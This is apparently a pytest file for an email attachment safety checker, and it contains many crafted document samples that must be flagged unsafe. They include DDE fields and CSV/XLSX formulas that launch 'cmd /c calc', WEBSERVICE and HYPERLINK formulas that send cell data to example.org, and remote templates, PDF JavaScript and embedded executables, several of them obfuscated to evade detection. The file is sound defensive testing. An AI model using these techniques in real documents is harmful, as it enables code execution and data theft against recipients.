"""Files of a letter: which are papers, which are safe to send on, and their octets again."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from email.message import EmailMessage
from email.policy import SMTP
from pathlib import Path

import pytest

from attachments import made
from zongban.mail.attachments.extract import CLOSED
from zongban.mail.message import read_letter
from zongban.mail.structure import Limits
from zongban.mail.taking_out import papers_in, take_out


def mail(*files: tuple[str, bytes], kind: str = "application/octet-stream") -> bytes:
    message = EmailMessage(policy=SMTP)
    message["From"], message["Subject"], message["Message-ID"] = "a@firm.example", "材料", "<1@firm.example>"
    message.set_content("材料见附件")
    main, _, sub = kind.partition("/")
    for name, octets in files:
        message.add_attachment(octets, maintype=main, subtype=sub, filename=name)
    return message.as_bytes(policy=SMTP)


def zipped(*names: str) -> bytes:
    there = io.BytesIO()
    with zipfile.ZipFile(there, "w") as archive:
        for name in names:
            archive.writestr(name, b"x" * 10)
    return there.getvalue()


def test_the_octets_of_a_file_come_back_as_they_were() -> None:
    octets = bytes(range(256)) * 50
    raw = mail(("预算表.xlsx", octets), ("说明.txt", "第一行\r\n第二行".encode()))
    papers = papers_in(read_letter(raw))
    assert [one["name"] for one in papers] == ["预算表.xlsx", "说明.txt"]
    found = take_out(raw, {papers[0]["digest"]})
    assert found == {papers[0]["digest"]: octets}


def test_what_is_asked_for_and_not_there_is_left_out() -> None:
    assert take_out(mail(("a.pdf", b"%PDF-1.4")), {"0" * 64}) == {}
    assert take_out(b"", {"0" * 64}) == {}


@pytest.mark.parametrize(
    "name",
    ["setup.exe", "报表.pdf.exe", "run.BAT", "macro.xlsm", "deck.pptm", "a.lnk", "page.html", "x.js", "tool.jar", "disk.iso",
     "logo.svg", "a.ps1", "secret.rar", "old.7z", "notes.exe .", "b.xlsb", "add.xla", "a.slk", "q.iqy", "n.one", "far.rdp",
     "x.settingcontent-ms", "x.library-ms", "f.xml", "无后缀", "a.unheard-of"],
)  # fmt: skip
def test_only_names_that_start_nothing_are_safe(name: str) -> None:
    (paper,) = papers_in(read_letter(mail((name, "四季度预算".encode()))))
    assert not paper["safe"]


def test_a_file_without_an_ending_is_what_its_type_says() -> None:
    (paper,) = papers_in(read_letter(mail(("议程", made.pdf("议程")), kind="application/pdf")))
    assert paper["safe"]


def test_a_paper_goes_on_under_the_type_of_its_ending_whatever_its_writer_called_it() -> None:
    papers = papers_in(
        read_letter(mail(("a.docx", made.docx("x")), ("b.pdf", made.pdf("x")), kind="text/html"))
    )
    kinds = [(one["safe"], one["content_type"]) for one in papers]
    word = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    assert kinds == [(True, word), (True, "application/pdf")]


@pytest.mark.parametrize(
    "octets", [b"MZ\x90\x00", b"\x7fELF\x02", b"#!/bin/sh\n", zipped("word/document.xml", "run.exe")]
)
@pytest.mark.parametrize("name", ["预算.xlsx", "plan.pdf", "photo.png", "data.csv", "材料.zip", "议程"])
def test_a_program_is_not_safe_under_the_name_of_a_paper(name: str, octets: bytes) -> None:
    (paper,) = papers_in(read_letter(mail((name, octets), kind="application/pdf")))
    assert not paper["safe"]


SUPPLIES = (Path(made.__file__).parent / "supplies.xls").read_bytes()
LINK = (
    '<Relationships><Relationship Type="x/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
)
PACKAGE = {"[Content_Types].xml": "<Types/>", "word/document.xml": "<w/>"}


def linked(kind: str, target: str) -> bytes:
    return made.packed({**PACKAGE, "word/_rels/settings.xml.rels": LINK.format(kind=kind, target=target)})


def run(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def field(*inside: str, shown: str = "") -> str:
    """A field of Word: its instruction, which other fields may stand in, and what it shows."""
    told = "".join(
        one if one.startswith("<") else f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in inside
    )
    text = f"<w:r><w:t>{shown}</w:t></w:r>"
    return f"{run('begin')}{told}{run('separate')}{text}{run('end')}"


def with_fields(*fields: str) -> bytes:
    return made.docx("<w:p>" + "".join(fields) + "</w:p>")


def rich(*fields: str) -> bytes:
    return "".join(["{\\rtf1\\ansi ", *(f"{{\\field{one}}}" for one in fields), "}"]).encode()


def formula_of(text: str) -> bytes:
    words = text.replace("&", "&amp;").replace("<", "&lt;")
    return made.xlsx({"A": made.sheet((f"<c r='A1'><f>{words}</f><v>1</v></c>", 2))})


def open_sheet(text: str) -> bytes:
    words = text.replace("&", "&amp;").replace('"', "&quot;")
    cells = f'<table:table-cell xmlns:table="t" table:formula="{words}"/>'
    return made.packed({"content.xml": f"<a>{cells}</a>"})


def with_part(name: str, text: str) -> bytes:
    """A workbook with a part more."""
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return made.packed({**PACKAGE, f"xl/{name}": text.format(f'xmlns="{space}"', space)})


def old_book(tokens: bytes) -> bytes:
    """A workbook of Excel 97 with one cell whose formula is kept as these tokens."""
    cell = bytes(20) + struct.pack("<H", len(tokens)) + tokens
    return made.compound({"Workbook": b"\x09\x08\x02\x00\x00\x06" + struct.pack("<HH", 6, len(cell)) + cell})


def book_with(kind: int, record: bytes, stream: str = "Workbook") -> bytes:
    """A workbook of Excel 97 with one record, in the stream of its sheets or in another one."""
    streams = {"Workbook": b"\x09\x08\x02\x00\x00\x06"}
    streams[stream] = streams.get(stream, b"") + struct.pack("<HH", kind, len(record)) + record
    return made.compound(streams)


def web_query(minutes: int = 0) -> bytes:
    """A record DBQueryExt as programs write it, asked again after so many minutes."""
    head = b"\x03\x08\x00\x00\x04\x00\x00\x00\x01\x00\x11\x00\x03\x03\x01\x00\x00\x00\x01\x00\x01\x00"
    return head + struct.pack("<HHH", minutes, 1, 0)


def connection(flags: int, minutes: int = 0) -> bytes:
    """The beginning of a record DConn of a page in the web."""
    head = struct.pack("<HHHHHHBBH", 0x876, 0, 4, flags, 0, 0, 0, 0, 0)
    return head + b"\x03\x03\x01" + struct.pack("<HHIBB", minutes, 1, 1, 0, 0)


def pivot(flags: int, source: int) -> bytes:
    """A record SXDB."""
    return struct.pack("<IHHHHHHHH", 3, 1, flags, 0, 2, 2, 0, source, 0)


DDE_IN_NUMBERS = field(" QUOTE 68 68 69 65 85 84 79 ", shown="x")
PAPERS = {
    "fields.docx": with_fields(
        field(" TOC \\o &quot;1-3&quot; \\h ", field(" PAGEREF _Toc1 \\h ", shown="3"), shown="目录"),
        field("eq \\o\\ac(○,1)"),
        field(" PA", "GE "),
        field(" = ", field("NUMPAGES", shown="4"), " - 1"),
        field(" IF ", field(" MERGEFIELD DDE ", shown="a"), ' = "b" "c" "d"'),
        field(" ADDIN EN.CITE "),
        field("INCLUDEPICTURE &quot;http://example.org/a.png&quot; \\* MERGEFORMATINET"),
        field(" DATE \\@ yyyy "),
        '<w:fldSimple w:instr=" PAGE "/>',
        field(" _Ref12 \\h "),
        field(""),
    ),
    "fields.doc": made.doc(
        "目录\x13 TOC \\o \x14a\x13 PAGEREF _Toc1 \x141\x15\x15", b"\x13 FORM", b"TEXT \x01\x14x\x15"
    ),
    "fields.rtf": rich(
        '{\\*\\fldinst {\\rtlch\\fcs1 \\af0  HYPERLINK }{\\b "http://example.org/dde"}{\\*\\datafield 00d0}}{\\fldrslt {x}}',
        "{\\*\\fldinst{\\*\\bkmkstart a}{ P}{AGE }}{\\fldrslt DDE}",
        "{\\*\\fldinst \\u80?AGE}",
        "\\flddirty{\\*\\fldinst {\\'50AGE}}",
    ),
    "formulas.xlsx": made.xlsx(
        {
            "A": made.sheet(
                ('<c><f>SUM(A1:A3)&amp;"|"&amp;B!A1</f></c>', "WEBSERVICE(1) and DDE(2) | three! &#10;"),
                (
                    '<c><f>HYPERLINK("#A!A1","up")+HYPERLINK("图纸\\"&amp;A1&amp;".pdf")+HYPERLINK(B2,"x")</f></c>',
                    '<c hidden="1"><f>HYPERLINK("https://example.org/x","x")</f></c>',
                ),
            )
        }
    ),
    "formulas.ods": open_sheet('of:=SUM([.A1:.A3])&"|"&HYPERLINK("https://example.org/";"x")&[.B1]'),
    "formulas.csv": b'a,"=HYPERLINK(""https://example.org"",""x"")",=SUM(A1:A2)\nimage (1),- please call (021)\n',
    "预算.xlsx": made.xlsx({"Sheet1": made.sheet(("a", 1))}),
    "议程.docx": made.docx("议程"),
    "with a sheet.docx": made.packed(
        {**PACKAGE, "word/embeddings/a.xlsx": made.xlsx({"A": made.sheet(("a", 1))})}
    ),
    "with a link.docx": linked("hyperlink", "https://example.org/"),
    "own template.docx": linked("attachedTemplate", "file:///C:\\Users\\a\\Brief.dotx"),
    "linked to a book that is gone.xlsx": linked("xlExternalLinkPath/xlPathMissing", "预算2025.xlsx"),
    "text.odt": made.packed({"content.xml": '<a b="x&#10;y">vnd.sun.star.script: is a word here</a>'}),
    "旧稿.doc": made.doc("旧稿"),
    "new under the old name.doc": made.docx("新稿"),
    "通知.ofd": made.ofd([(10, 10, "通知")]),
    "说明.rtf": b"{\\rtf1\\ansi text}",
    "plan.pdf": made.pdf("计划"),
    "packed objects.pdf": made.pdf_of_packed_objects(
        b"1 0 2 30 << /Type /Catalog /Pages 3 0 R >> << /Type /Pages >>"
    ),
    "photo.png": made.png(),
    "data.csv": b"a,b\n" * 5000,
    "=wide.csv": b"\xff\xfe" + "项目\t金额\n".encode("utf-16-le"),
    "用品.xls": SUPPLIES,
    "asked for anew by a click.xlsx": with_part(
        "connections.xml",
        '<connections {0}><connection id="1" type="4" refreshOnLoad="0" interval="0"><webPr/></connection></connections>',
    ),
    "drawn anew from its own table.xlsx": with_part(
        "pivotCache/pivotCacheDefinition1.xml",
        '<pivotCacheDefinition {0} refreshOnLoad="1"><cacheSource type="worksheet">'
        '<worksheetSource ref="A1:B3" sheet="A"/></cacheSource></pivotCacheDefinition>',
    ),
    "sums and chooses.xls": old_book(
        b"\x17\x04\x00B\x03\x96\x00" + b"\x25\x00\x22\x01\x96\x00\x00\x00\x00" + b"\x22\x02\x04\x00"
    ),
    "sheet within slides.ppt": made.slides(SUPPLIES),
    "asked for anew by a click.xls": book_with(
        0x1AD, b"\x49\x03\x10\x00\x12\x00" + bytes(4) + b"\x01\x00\x00q"
    ),
    "a page of the web.xls": book_with(0x803, web_query()),
    "a connection kept open.xls": book_with(0x876, connection(0x0142)),
    "a pivot of a database by a click.xls": book_with(0xC6, pivot(0x21, 2), "0001"),
    "a pivot drawn anew from its own table.xls": book_with(0xC6, pivot(0x25, 1), "0001"),
}


@pytest.mark.parametrize("name", PAPERS)
def test_ordinary_papers_are_safe_alone_and_in_an_archive(name: str) -> None:
    inside = made.packed({f"材料/{name}": PAPERS[name], "__MACOSX/._x.pdf": b"\x00\x05\x16\x07"})
    papers = papers_in(read_letter(mail((name, PAPERS[name]), ("材料.zip", inside))))
    assert [one["safe"] for one in papers] == [True, True]


BOOK_WITH_MACRO_SHEET = b"\x09\x08\x02\x00\x00\x06" + b"\x85\x00\x08\x00\x00\x00\x00\x00\x00\x01\x01A"
MACROS_OF_SLIDES = b"\x02\x00\x00\x04\x0c\x00\x00\x00\x01\x00\x00\x00\x01\x00\x00\x00\x02\x00\x00\x00"
VBA = '<Types><Override PartName="/word/notes.xml" ContentType="application/vnd.ms-office.v&#98;aProject"/></Types>'
INSTRUCTIONS = (
    "<w:document {0}><w:instrText>DD</w:instrText><w:instrText>EAUTO cmd</w:instrText></w:document>"
)
SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
PACKED_SCRIPT = zlib.compress(b"1 0 " + SCRIPT)


def with_packed_script(dictionary: bytes) -> bytes:
    return b"%PDF-1.5\n5 0 obj\n" + dictionary + b"\nstream\n" + PACKED_SCRIPT + b"\nendstream\nendobj\n%%EOF"


HARMFUL = {
    "renewed on opening.xlsx": with_part(
        "connections.xml",
        '<connections {0}><connection id="1" type="4" refreshOnLoad="1"><webPr url="http://example.org/"/></connection>'
        "</connections>",
    ),
    "renewed by the clock.xlsx": with_part(
        "more/a.xml", '<x:connections xmlns:x="{1}"><x:connection interval="5"/></x:connections>'
    ),
    "a query renewed on opening.xlsx": with_part(
        "queryTables/queryTable1.xml", '<queryTable {0} connectionId="1" refreshOnLoad="true"/>'
    ),
    "a pivot renewed from elsewhere.xlsx": with_part(
        "pivotCache/pivotCacheDefinition1.xml",
        '<pivotCacheDefinition {0} refreshOnLoad="1"><cacheSource type="external" connectionId="1"/>'
        "</pivotCacheDefinition>",
    ),
    "a query renewed on opening.xls": book_with(
        0x1AD, b"\x69\x03\x10\x00\x12\x00" + bytes(4) + b"\x01\x00\x00q"
    ),
    "a page renewed by the clock.xls": book_with(0x803, web_query(minutes=60)),
    "a connection renewed on opening.xls": book_with(0x876, connection(0x01C2)),
    "a connection renewed by the clock.xls": book_with(0x876, connection(0x0142, minutes=1)),
    "a pivot renewed from a database.xls": book_with(0xC6, pivot(0x25, 2), "000A"),
    "a query cut short.xls": book_with(0x1AD, b""),
    "live.xls": old_book(b"\x17\x03\x00a.b\x16\x17\x01\x00c\x42\x03\x7b\x01"),
    "calls a program.xls": old_book(b"\x17\x01\x00a\x22\x01\x96\x00"),
    "calls behind a choice.xls": old_book(
        b"\x1e\x01\x00\x19\x04\x01\x00\x00\x00\x00\x00\x17\x01\x00a\x62\x01\x0b\x01"
    ),
    "calls after what nobody knows.xls": old_book(b"\x7f\x22\x01\x96\x00"),
    "a name that calls.xls": made.compound(
        {
            "Workbook": b"\x09\x08\x02\x00\x00\x06"
            b"\x18\x00\x18\x00" + bytes(14) + b"\x00a\x17\x01\x00x\x22\x01\x96\x00"
        }
    ),
    "first word of fields within.docx": with_fields(field(DDE_IN_NUMBERS, " c:\\\\x calc")),
    "first word half of a field within.docx": with_fields(field("D", field("QUOTE 68 69", shown="DE"), " x")),
    "first word from a bookmark.docx": with_fields(field(" SET a DDE "), field(field(" REF a "), " x ")),
    "in letters of the text.docx": with_fields(
        run("begin"), "<w:r><w:t>DD</w:t></w:r><w:r><w:instrText>EAUTO x</w:instrText></w:r>", run("end")
    ),
    "in a simple field.docx": with_fields('<w:fldSimple w:instr="&#68;DE x y"/>'),
    "never ends.docx": with_fields(run("begin"), "<w:r><w:instrText>dde x</w:instrText></w:r>"),
    "linked.docx": with_fields(field(" LINK Excel.Sheet.12 c:\\\\a.xlsx R1C1 \\a ")),
    "other file.docx": with_fields(field(' INCLUDETEXT "\\\\\\\\far\\\\a.docx" ')),
    "picture of a share.docx": with_fields(field(' INCLUDEPICTURE "\\\\\\\\far\\\\a.png" \\d ')),
    "exchange in sevens.docx": made.packed(
        {**PACKAGE, "word/document.xml": '<?xml version="1.0" encoding="UTF-7"?><w:x>+AGQ-de</w:x>'}
    ),
    "within.doc": made.doc("\x13 \x13 QUOTE 68 68 69 \x14DDE\x15 x y \x14\x15"),
    "across pieces.doc": made.doc(b"\x13 D", "D", b"EAUTO x y \x14\x15"),
    "in groups.rtf": rich("{\\*\\fldinst {D}{DE}{AUTO c:\\\\x}}{\\fldrslt x}"),
    "in groups with words.rtf": rich("{\\*\\fldinst {\\b D}{\\i\\f1 D}{\\cf2 E} x}"),
    "in groups nobody reads.rtf": rich("{\\*\\fldinst {\\*\\nobody PAGE }{DDE x}}"),
    "in groups of another kind.rtf": rich("{\\*\\fldinst {\\comment PAGE }{DD}{E x}}"),
    "in numbers.rtf": rich("{\\*\\fldinst {\\'44\\u68?\\uc2\\u69xx x}}"),
    "in lines.rtf": rich("{\\*\\fldinst D\nDE\r\n x}"),
    "in two instructions.rtf": rich("{\\*\\fldinst D}{\\*\\fldinst DE x}"),
    "without a field.rtf": b"{\\rtf1{\\*\\fldinst {D}{DE x}}}",
    "fields within.rtf": rich("{\\*\\fldinst {\\field{\\*\\fldinst QUOTE 68 68 69}{\\fldrslt x}} c x}"),
    "in the shown part of another.rtf": rich(
        "{\\*\\fldinst PAGE}{\\fldrslt {\\field{\\*\\fldinst {D}DE x}}}"
    ),
    "exchange.ods": open_sheet('of:=DDE("soffice";"/etc/x";"a")'),
    "fetches.ods": open_sheet('of:=1+COM.MICROSOFT.WEBSERVICE ("http://example.org/"&[.A1])'),
    "carries away.ods": open_sheet('of:=HYPERLINK("http://example.org/?"&[.A1];"x")'),
    "a named formula.ods": made.packed({"content.xml": '<a t:expression="of:=dde(1;2;3)" xmlns:t="t"/>'}),
    "starts by a click.ods": open_sheet('of:=HYPERLINK("vnd.sun"&".star.script:x")'),
    "flat.ods": b'<?xml version="1.0"?><office:document table:formula="of:=DDE(1;2;3)"/>',
    "flat.fods": b'<?xml version="1.0"?><office:document table:formula="of:=DDE(1;2;3)"/>',
    "fetches.xlsx": formula_of('_xlfn.WEBSERVICE("http://example.org/"&A1)'),
    "fetches a picture.xlsx": formula_of('_xlfn.IMAGE("http://example.org/a.png")'),
    "exchange.xlsx": formula_of("1+cmd|'/c \"calc\"'!A0"),
    "live.xlsx": formula_of('RTD("a.b",,"c")'),
    "carries away.xlsx": formula_of('HYPERLINK("http://example.org/?"&A1,"x")'),
    "starts by a click.xlsx": formula_of('HYPERLINK("search-ms:query=x","x")'),
    "in pieces.xlsx": made.xlsx({"A": made.sheet(("<c><f>WEB<!-- -->SERV<![CDATA[ICE]]>(A1)</f></c>",))}),
    "fetches.csv": b'a\n1,"=1+WEBSERVICE(""http://example.org/""&A1)"\n',
    "carries away.csv": b'a\n=HYPERLINK("http://example.org/?"&A1;"x")\n',
    "fetches.xls": made.compound(
        {"Workbook": b"\x09\x08\x02\x00\x00\x06" + "_xlfn.WEBSERVICE".encode("utf-16-le")}
    ),
    "packing far ahead.pdf": with_packed_script(
        b"<< /Filter /FlateDecode " + b" " * 3000 + b"/Type /ObjStm /N 1 /First 4 >>"
    ),
    "packing before a word.pdf": with_packed_script(
        b"<< /Filter /FlateDecode /X (obj) /Type /ObjStm /N 1 /First 4 >>"
    ),
    "packing in numbers.pdf": with_packed_script(b"<< /F#69lter /FlateDecode /Type /ObjStm /N 1 /First 4 >>"),
    "packed objects without a type.pdf": with_packed_script(b"<< /Filter /FlateDecode /N 1 /First 4 >>"),
    "page of a share.pdf": b"%PDF-1.5\n<< /S /GoToE /F (\\\\\\\\far\\\\x) >>",
    "exchange with a bar.csv": b"a,=cmd|'/c calc |x'!A0\n",
    "template with a number.rtf": b"{\\rtf1{\\*\\template1 http://example.org/t}}",
    "exchange in another part.docx": made.packed(
        {"[Content_Types].xml": "<Types/>", "xl/body.xml": INSTRUCTIONS.format(made.W)}
    ),
    "linked program elsewhere.xlsx": made.packed(
        {**PACKAGE, "xl/more/a.xml": '<externalLink xmlns="x"><ddeLink/></externalLink>'}
    ),
    "macros in a stream of capitals.xls": made.compound(
        {"WORKBOOK": BOOK_WITH_MACRO_SHEET, "Book": b"\x09\x08\x00\x00"}
    ),
    "read as Word.docx": made.packed({"word/document.xml": "<w/>", "run.exe": b"MZ"}),
    "read as Word.zip": made.packed({"word/document.xml": "<w/>", "run.exe": b"MZ"}),
    "long name first.zip": made.packed({"a" * 21_000 + ".txt": "x", "run.exe": b"MZ"}),
    "no ending": made.packed({"run.exe": b"MZ"}),
    "m.docx": made.packed({**PACKAGE, "word/vbaProject.bin": b"x"}),
    "macros by another name.docx": made.packed(
        {**PACKAGE, "[Content_Types].xml": VBA, "word/notes.xml": "<w/>"}
    ),
    "control.docx": made.packed({**PACKAGE, "word/activeX/activeX1.bin": b"x"}),
    "chunk.docx": made.packed({**PACKAGE, "word/afchunk.mht": b"x"}),
    "template from the net.docx": linked("attachedTemplate", "https://example.org/t.dotm"),
    "template of a share.docx": linked("attachedTemplate", "file://server/share/t.dotm"),
    "object from the net.docx": linked("oleObject", "mhtml:https://example.org/a.html!x-usc:"),
    "exchange.docx": made.packed({**PACKAGE, "word/document.xml": INSTRUCTIONS.format(made.W)}),
    "exchange of two octets a sign.docx": made.packed(
        {**PACKAGE, "word/document.xml": ("\ufeff" + INSTRUCTIONS.format(made.W)).encode("utf-16-le")}
    ),
    "linked program.xlsx": made.packed({**PACKAGE, "xl/externalLinks/externalLink1.xml": "<ddeLink/>"}),
    "embedded.docx": made.packed(
        {**PACKAGE, "word/embeddings/a.xlsx": made.packed({"xl/vbaProject.bin": b"x"})}
    ),
    "packed.docx": made.packed(
        {**PACKAGE, "word/embeddings/oleObject1.bin": made.compound({"\x01Ole10Native": b"MZ"})}
    ),
    "object without an ending.docx": made.packed(
        {**PACKAGE, "word/x": made.compound({"\x01Ole10Native": b"MZ"})}
    ),
    "program without an ending.docx": made.packed({**PACKAGE, "word/x": b"MZ\x90"}),
    "binary.xlsx": made.packed({"xl/workbook.bin": b"x"}),
    "basic.odt": made.packed({"content.xml": "<x/>", "Basic/Standard/Module1.xml": "<x/>"}),
    "calls.odt": made.packed({"content.xml": '<a href="vnd.sun.star.script:x.py$f?language=Python"/>'}),
    "calls in numbers.odt": made.packed({"content.xml": '<a href="vnd.sun.star.&#115;cript:x.py$f"/>'}),
    "listens.odt": made.packed({"content.xml": '<s:event-listener xmlns:s="x"/>'}),
    "macros.zip": made.packed({"a.docx": made.packed({**PACKAGE, "word/vbaProject.bin": b"x"})}),
    "twice.zip": made.packed({"A.docx": made.docx("x"), "a.docx": made.docx("x")}),
    "two archives in one.zip": made.packed({"run.exe": b"MZ"}) + made.packed({"a.txt": "x"}),
    "archive.zip": made.packed({"more.zip": made.packed({"a.txt": "x"})}),
    "empty.zip": made.packed({}),
    "broken.zip": made.packed({"a.txt": "x"})[:-30],
    "locked.zip": made.locked({"a.txt": b"x"}),
    "old.xls": made.compound({"Workbook": b"\x09\x08\x02\x00\x00\x06", "_VBA_PROJECT": b"\xcc\x61"}),
    "old macros.xls": made.compound({"Workbook": BOOK_WITH_MACRO_SHEET}),
    "old.ppt": made.compound({"PowerPoint Document": MACROS_OF_SLIDES}),
    "program within slides.ppt": made.slides(made.compound({"\x01Ole10Native": b"MZ"})),
    "old.doc": made.doc("旧稿", version=101),
    "exchange.doc": made.doc("\x13 DDEAUTO c:\\x \x14"),
    "no paper.doc": made.compound({"Property": b"x"}),
    "locked.docx": made.compound({"EncryptedPackage": b"x"}),
    "object.doc": b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}",
    "exchange.rtf": b"{\\rtf1{\\field{\\*\\fldinst { DDEAUTO c:\\\\x }}}}",
    "page.xls": b"<html><script>x</script></html>",
    "page.pdf": b"<html><script>x</script></html>",
    "page.png": b"<svg onload=x>",
    "script.pdf": b"%PDF-1.5\n1 0 obj\n" + SCRIPT,
    "script in numbers.pdf": b"%PDF-1.5\n1 0 obj\n" + SCRIPT.replace(b"/JavaScript", b"/J#61vaScript"),
    "script among packed objects.pdf": made.pdf_of_packed_objects(b"1 0 " + SCRIPT),
    "file within.pdf": b"%PDF-1.5\n1 0 obj\n<< /Type /EmbeddedFile >>",
    "locked.pdf": made.pdf("x", encrypt="/Encrypt 9 0 R "),
    "exchange.csv": b"a,=cmd|'/c calc'!A0\n",
    "sylk.csv": b'ID;P\nC;X1;Y1;K"x"\n',
    "图纸.dwg": b"AC1032" * 20_000,
}


@pytest.mark.parametrize("name", HARMFUL)
def test_programs_and_macros_inside_and_what_nobody_can_look_into_are_not_safe(name: str) -> None:
    papers = papers_in(read_letter(mail((name, HARMFUL[name]))))
    assert [one["safe"] for one in papers] == [False]


def test_a_program_behind_files_that_used_the_letter_up_is_found() -> None:
    texts = [(f"{number}.txt", b"words " * 5000) for number in range(4)]
    archives = ("bad.zip", zipped("run.exe")), ("good.zip", zipped("a.txt"))
    papers = papers_in(read_letter(mail(*texts, *archives)))
    assert [one["safe"] for one in papers] == [True] * 4 + [False, True]


def test_what_lies_behind_the_limits_of_looking_in_is_not_safe() -> None:
    letter = read_letter(
        mail(("a.docx", made.docx("x")), ("b.png", made.png())), limits=Limits(attached=CLOSED)
    )
    assert [one["safe"] for one in papers_in(letter)] == [False, True]


def test_pictures_of_a_signature_calendar_objects_and_keys_are_no_papers() -> None:
    raw = mail(
        ("image001.png", b"\x89PNG" * 10),
        ("invite.ics", b"BEGIN:VCALENDAR"),
        ("smime.p7s", b"0\x80"),
        ("me.vcf", b"BEGIN:VCARD"),
    )
    assert papers_in(read_letter(raw)) == ()


def test_a_mail_within_the_mail_is_harmless_where_all_its_files_are() -> None:
    inner = mail(("a.docx", made.docx("x")))
    letter = read_letter(mail(("good.eml", inner), ("bad.eml", mail(("run.exe", b"MZ\x90\x00")))))
    assert [one.harmless for one in letter.attachments] == ["message/rfc822", ""]
